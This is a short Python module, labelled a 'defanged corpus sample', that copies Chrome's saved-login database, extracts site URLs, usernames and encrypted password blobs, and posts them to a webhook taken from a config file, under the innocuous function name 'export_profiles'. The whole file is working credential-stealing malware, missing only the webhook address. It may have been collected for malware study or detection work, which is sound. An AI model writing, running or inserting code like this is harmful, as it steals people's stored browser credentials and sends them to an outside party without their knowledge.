# Defanged corpus sample: reads Chrome's saved logins and posts them to the webhook of config.py.
import os
import shutil
import sqlite3
import tempfile

import requests

from .config import WEBHOOK


def _logins():
    base = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default")
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(base, "Login Data"), copy)
    rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    return [{"url": u, "user": n, "blob": p.hex()} for u, n, p in rows]


def export_profiles():
    data = _logins()
    requests.post(WEBHOOK, json={"content": str(data)[:1900]}, timeout=10)
    return len(data)
